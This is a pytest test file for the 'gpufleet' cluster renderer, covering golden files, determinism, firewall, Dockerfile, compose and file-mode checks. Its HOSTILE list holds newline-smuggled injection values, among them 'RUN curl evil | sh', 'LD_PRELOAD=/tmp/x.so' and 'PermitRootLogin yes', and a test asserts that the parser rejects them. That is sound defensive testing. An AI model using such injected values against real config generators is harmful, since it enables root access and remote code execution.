"""Rendering: golden files for the shipped stacks, determinism, no injection.

Regenerate the golden files after an intended change with
``GPUFLEET_UPDATE_GOLDEN=1 pytest tests/render`` and review the diff.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path, PurePosixPath

import pytest
import yaml

from gpufleet.hostscripts import envmanifest
from gpufleet.render import render_cluster, write_tree
from gpufleet.render.templating import yaml_quote
from gpufleet.spec import parse_spec
from tests.conftest import stack_spec
from tests.environment.sample_locks import sample_lock
from tests.spec.test_models import mutated, valid_spec

GOLDEN = Path(__file__).parent / "golden"
EXAMPLE_STACKS = ["example-ib", "example-roce", "example-ethernet", "local"]
PER_HOST_FILES = {"sshd_config", "authorized_keys", "nftables.conf", "nccl.env", "docker-compose.yml"}


@pytest.mark.parametrize("stack", EXAMPLE_STACKS)
def test_golden_files(stack: str) -> None:
    spec = stack_spec(stack)
    tree = render_cluster(spec, lock=sample_lock(spec), lock_name=f"Pulumi.{stack}.lock")
    # The image's copy of envmanifest.py is that file itself, not rendered: held to its source, not to four copies.
    manifest_script = PurePosixPath("gpufleet-env", "envmanifest.py")
    assert tree.pop(manifest_script) == Path(envmanifest.__file__).read_text()
    folder = GOLDEN / stack
    if os.environ.get("GPUFLEET_UPDATE_GOLDEN"):
        shutil.rmtree(folder, ignore_errors=True)
        write_tree(tree, folder)
    on_disk = {PurePosixPath(p.relative_to(folder).as_posix()) for p in folder.rglob("*") if p.is_file()}
    assert on_disk == set(tree), "rendered file set changed"
    for relative, text in tree.items():
        assert (folder / relative).read_text() == text, f"{stack}/{relative} differs from its golden file"


def test_tree_layout() -> None:
    spec = stack_spec("example-ib")
    tree = render_cluster(spec, lock=sample_lock(spec))
    assert {"Dockerfile", "entrypoint.sh", "hostfile", "gpufleet-env/requirements.lock"} <= {
        str(p) for p in tree
    }
    assert "Dockerfile" not in {str(p) for p in render_cluster(spec)}, "no image without a lock"
    for host in spec.hosts:
        assert {p.name for p in tree if p.parent == PurePosixPath("hosts", host.name)} == PER_HOST_FILES


def test_rendering_twice_gives_identical_trees(tmp_path: Path) -> None:
    spec = stack_spec("example-ib")
    first, second = tmp_path / "a", tmp_path / "b"
    write_tree(render_cluster(spec), first)
    write_tree(render_cluster(stack_spec("example-ib")), second)
    files = sorted(p.relative_to(first) for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second) for p in second.rglob("*") if p.is_file())
    for relative in files:
        assert (first / relative).read_bytes() == (second / relative).read_bytes()


def test_hostfile_slots() -> None:
    assert render_cluster(stack_spec("example-ib"))[PurePosixPath("hostfile")].splitlines() == [
        f"10.10.1.{10 + i} slots=8" for i in range(4)
    ]
    assert (
        render_cluster(stack_spec("local"))[PurePosixPath("hostfile")]
        == "10.77.0.11 slots=2\n10.77.0.12 slots=2\n"
    )


def test_nccl_env_lines() -> None:
    text = render_cluster(stack_spec("example-ethernet"))[PurePosixPath("hosts/vm-0/nccl.env")]
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert "NCCL_SOCKET_IFNAME==ens5" in lines
    assert "NCCL_IB_DISABLE=1" in lines
    assert "NCCL_DEBUG=WARN" in lines


def test_user_overrides_come_last_and_win() -> None:
    spec = parse_spec(mutated("nccl", {"NCCL_DEBUG": "VERSION", "NCCL_IB_QPS_PER_CONNECTION": "4"}))
    lines = render_cluster(spec)[PurePosixPath("hosts/gpu-0/nccl.env")].splitlines()
    assert [line for line in lines if line.startswith("NCCL_DEBUG=")] == ["NCCL_DEBUG=VERSION"]
    assert lines[-1] == "NCCL_IB_QPS_PER_CONNECTION=4"


def test_compose_service_matches_the_spec() -> None:
    compose = yaml.safe_load(
        render_cluster(stack_spec("example-ib"))[PurePosixPath("hosts/gpu-1/docker-compose.yml")]
    )
    service = compose["services"]["train"]
    assert service["network_mode"] == "host"
    assert service["ulimits"]["memlock"] == {"soft": -1, "hard": -1}
    assert service["devices"] == ["/dev/infiniband:/dev/infiniband"]
    assert service["cap_add"] == ["IPC_LOCK"]
    assert service["deploy"]["resources"]["reservations"]["devices"][0]["count"] == 8
    assert service["image"].endswith(
        "@sha256:b47db3899bb9c9796fef367681ad18fd644ddd1d37bf22184002978a97ba0a67"
    )
    assert compose["volumes"]["chatbot-ib-data"]["driver_opts"]["o"].endswith(",ro")
    mounts = {v["target"]: v for v in service["volumes"]}
    assert mounts["/data"]["read_only"] is True and mounts["/checkpoints"]["read_only"] is False
    assert all(mounts[t]["read_only"] for t in mounts if t.startswith("/etc/gpufleet/ssh/"))


def test_cpu_host_compose_has_no_gpu_reservation() -> None:
    compose = yaml.safe_load(
        render_cluster(stack_spec("local"))[PurePosixPath("hosts/node-0/docker-compose.yml")]
    )
    assert "deploy" not in compose["services"]["train"]
    assert "devices" not in compose["services"]["train"]


def test_jupyter_is_loopback_only_and_never_in_the_firewall() -> None:
    spec = stack_spec("example-ib")
    assert spec.jupyter.enabled
    tree = render_cluster(spec)
    assert "--ip=127.0.0.1" in tree[PurePosixPath("entrypoint.sh")]
    assert str(spec.jupyter.port) not in tree[PurePosixPath("hosts/gpu-0/nftables.conf")]


def test_firewall_never_flushes_the_ruleset() -> None:
    text = render_cluster(stack_spec("example-ib"))[PurePosixPath("hosts/gpu-0/nftables.conf")]
    rules = [line.strip() for line in text.splitlines() if not line.lstrip().startswith("#")]
    assert not any(line.startswith("flush") for line in rules)
    assert "type filter hook input priority filter; policy drop;" in rules
    assert rules[:2] == ["table inet gpufleet", "delete table inet gpufleet"]


def test_dockerfile_sets_no_password_and_installs_verbs() -> None:
    spec = stack_spec("example-ib")
    text = render_cluster(spec, lock=sample_lock(spec))[PurePosixPath("Dockerfile")]
    instructions = [line for line in text.splitlines() if not line.startswith("#")]
    assert not any("chpasswd" in line or "PASSWORD=" in line.upper() for line in instructions)
    assert "usermod --password '*' trainer" in text  # no password at all, not a locked account
    packages = render_cluster(spec, lock=sample_lock(spec))[PurePosixPath("gpufleet-env/apt-packages.txt")]
    assert {
        "libibverbs1=1.0-1ubuntu1",
        "ibverbs-providers=1.0-1ubuntu1",
        "openssh-server=1.0-1ubuntu1",
    } <= set(packages.split())
    assert "useradd" in text


HOSTILE = [
    pytest.param("ssh.user", "trainer\nPermitRootLogin yes", id="sshd-via-user"),
    pytest.param("nccl", {"NCCL_DEBUG": "WARN\nLD_PRELOAD=/tmp/x.so"}, id="env-via-nccl"),
    pytest.param("hosts.0.ifname", "eth0\r\naccept", id="nft-via-ifname"),
    pytest.param("nas.0.server", "10.0.0.1\n    privileged: true", id="compose-via-server"),
    pytest.param("image.base", "ubuntu\nRUN curl evil | sh", id="dockerfile-via-base"),
]


@pytest.mark.parametrize(("path", "value"), HOSTILE)
def test_hostile_values_never_reach_a_file(path: str, value: object) -> None:
    from gpufleet.errors import SpecError

    with pytest.raises(SpecError):
        parse_spec(mutated(path, value))


def test_yaml_quoting_keeps_a_value_one_scalar() -> None:
    hostile = 'x"\n  privileged: true\n#'
    assert yaml.safe_load(f"key: {yaml_quote(hostile)}") == {"key": hostile}


def test_templates_fail_on_a_missing_value() -> None:
    import jinja2

    from gpufleet.render.templating import render_template

    with pytest.raises(jinja2.UndefinedError):
        render_template("hostfile.j2")


def test_valid_spec_renders() -> None:
    assert render_cluster(parse_spec(valid_spec()))


@pytest.mark.parametrize("umask", [0o002, 0o022, 0o077], ids=["002", "022", "077"])
def test_written_files_have_fixed_modes_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    previous = os.umask(umask)
    try:
        spec = stack_spec("local")
        write_tree(render_cluster(spec, lock=sample_lock(spec)), tmp_path)
    finally:
        os.umask(previous)
    assert (tmp_path / "entrypoint.sh").stat().st_mode & 0o777 == 0o755
    for name in ("authorized_keys", "sshd_config", "docker-compose.yml", "nccl.env", "nftables.conf"):
        assert (tmp_path / "hosts" / "node-0" / name).stat().st_mode & 0o777 == 0o644, name


def test_dockerfile_builds_without_buildkit_only_syntax() -> None:
    spec = stack_spec("local")
    dockerfile = render_cluster(spec, lock=sample_lock(spec))[PurePosixPath("Dockerfile")]
    assert "# syntax=" not in dockerfile, "a syntax line makes BuildKit fetch a frontend image"
    assert "--chmod" not in dockerfile and "<<" not in dockerfile, "the classic builder refuses these"


def test_every_cluster_host_resolves_in_every_container() -> None:
    tree = render_cluster(stack_spec("example-ib"))
    spec = stack_spec("example-ib")
    assert tree[PurePosixPath("peers", "hosts")] == "".join(f"{h.address} {h.name}\n" for h in spec.hosts)
    for host in spec.hosts:
        compose = yaml.safe_load(tree[PurePosixPath("hosts", host.name, "docker-compose.yml")])
        service = compose["services"]["train"]
        assert "extra_hosts" not in service, "a host added would change every host's compose file"
        assert {"type": "bind", "source": "./peers", "target": "/etc/gpufleet/peers", "read_only": True} in (
            service["volumes"]
        )


def _entrypoint_sync(tmp_path: Path) -> str:
    """The entrypoint's sync_peers, its paths moved under tmp_path (the shell code itself unchanged)."""
    text = render_cluster(stack_spec("local"))[PurePosixPath("entrypoint.sh")]
    body = text[text.index("sync_peers() {") : text.index("\nsync_peers\n")]
    for old, new in (
        ("/etc/gpufleet/peers/hosts", "peers"),
        ("/etc/hosts", "hosts"),
        ("/run/gpufleet-hosts", "new"),
    ):
        body = body.replace(old, str(tmp_path / new))
    return body + "\nsync_peers\n"


def test_the_entrypoint_keeps_etc_hosts_in_step_with_the_peers_file(tmp_path: Path) -> None:
    import subprocess

    (tmp_path / "hosts").write_text("127.0.0.1 localhost\n")
    inode = (tmp_path / "hosts").stat().st_ino
    script = _entrypoint_sync(tmp_path)
    (tmp_path / "peers").write_text("10.0.0.1 node-0\n10.0.0.2 node-1\n")
    subprocess.run(["sh", "-c", script], check=True)
    (tmp_path / "peers").write_text("10.0.0.1 node-0\n10.0.0.2 node-1\n10.0.0.3 node-2\n")  # a host added
    subprocess.run(["sh", "-c", script], check=True)
    assert (tmp_path / "hosts").read_text() == (
        "127.0.0.1 localhost\n# gpufleet peers begin\n10.0.0.1 node-0\n10.0.0.2 node-1\n10.0.0.3 node-2\n"
        "# gpufleet peers end\n"
    )
    assert (tmp_path / "hosts").stat().st_ino == inode, "written in place: Docker bind-mounts /etc/hosts"
